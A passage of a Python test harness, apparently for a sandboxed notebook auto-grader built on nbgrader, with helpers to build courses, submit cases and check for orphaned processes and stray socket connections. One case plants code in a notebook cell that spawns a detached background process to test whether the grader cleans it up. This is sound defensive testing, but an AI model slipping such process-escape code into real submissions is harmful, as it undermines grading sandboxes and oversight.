    doc="honest, but leaves a detached `sleep` behind (setsid); the grader must not let it survive",
)
def _(ctx):
    return prepend(
        ctx.source("gates"),
        "cell_forward",
        f"""
        import subprocess as _sp
        try:
            _sp.Popen(["/bin/sh", "-c", "sleep 300; : {ORPHAN_MARK}"], start_new_session=True,
                      stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
        except OSError:
            pass
    """,
    )


ORPHAN_MARK = "lstmkit-corpus-orphan-7c1f"


# ----------------------------------------------------------------------------- building a course


def nbgrader(*args, cwd):
    """Run the nbgrader CLI (it calls `alembic` and the kernel from PATH: the venv's bin goes first)."""
    env = dict(
        os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    )
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *args], cwd=cwd, env=env, capture_output=True, text=True
    )


def new_course(folder, assignments=ASSIGNMENTS):
    """A course copy in `folder` with source/, nbgrader_config.py, release/ and gradebook.db."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for a in assignments:
        shutil.copytree(COURSE / "source" / a, folder / "source" / a)
    shutil.copy(COURSE / "nbgrader_config.py", folder)
    for a in assignments:
        r = nbgrader("generate_assignment", a, "--force", cwd=folder)
        assert r.returncode == 0, r.stdout + r.stderr
    return folder


def submit(course, student, assignment, nb):
    path = Path(course) / "submitted" / student / assignment / f"{assignment}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.validate(nb)
    nbformat.write(nb, path)
    return path


def submit_cases(ctx, cases):
    for c in cases:
        submit(ctx.course, c.name, c.assignment, c.build(ctx))


class Listener:
    """A TCP listener on 127.0.0.1 and a Unix socket in a folder outside /tmp (which the sandbox sees,
    read-only) that record every connection (a sandboxed child must make none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self._folder = tempfile.mkdtemp(prefix="lstmkit-unix-", dir="/var/tmp" if os.path.isdir("/var/tmp")
                                        else os.path.expanduser("~"))
        self.unix = os.path.join(self._folder, "listener.sock")
        self.unix_sock = socket.socket(socket.AF_UNIX)
        self.unix_sock.bind(self.unix)
        self.connections = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._serve, args=(s,), daemon=True)
                         for s in (self.sock, self.unix_sock)]
        for t in self._threads:
            t.start()

    def _serve(self, sock):
        sock.listen()
        sock.settimeout(0.2)
        while not self._stop.is_set():
            try:
                conn, addr = sock.accept()
            except OSError:
                continue
            self.connections.append(addr or "unix")
            conn.close()

    def close(self):
        self._stop.set()
        for t in self._threads:
            t.join()
        self.sock.close()
        self.unix_sock.close()
        shutil.rmtree(self._folder, ignore_errors=True)


def cases_for(assignment, tag=None):
    return [c for c in CASES if c.assignment == assignment and (tag is None or tag in c.tags)]


def orphans():
    """pids of processes whose command line carries ORPHAN_MARK."""
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if ORPHAN_MARK.encode() in (proc / "cmdline").read_bytes():
                    found.append(int(proc.name))
            except OSError:
                pass
    return found


def grade_cli(course, assignment, *args, timeout=1800):
    """Run `python -m lstmkit.cli grade` on a course; returns the CompletedProcess."""
    return subprocess.run(
        [sys.executable, "-m", "lstmkit.cli", "grade", assignment, "--course", str(course), *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"
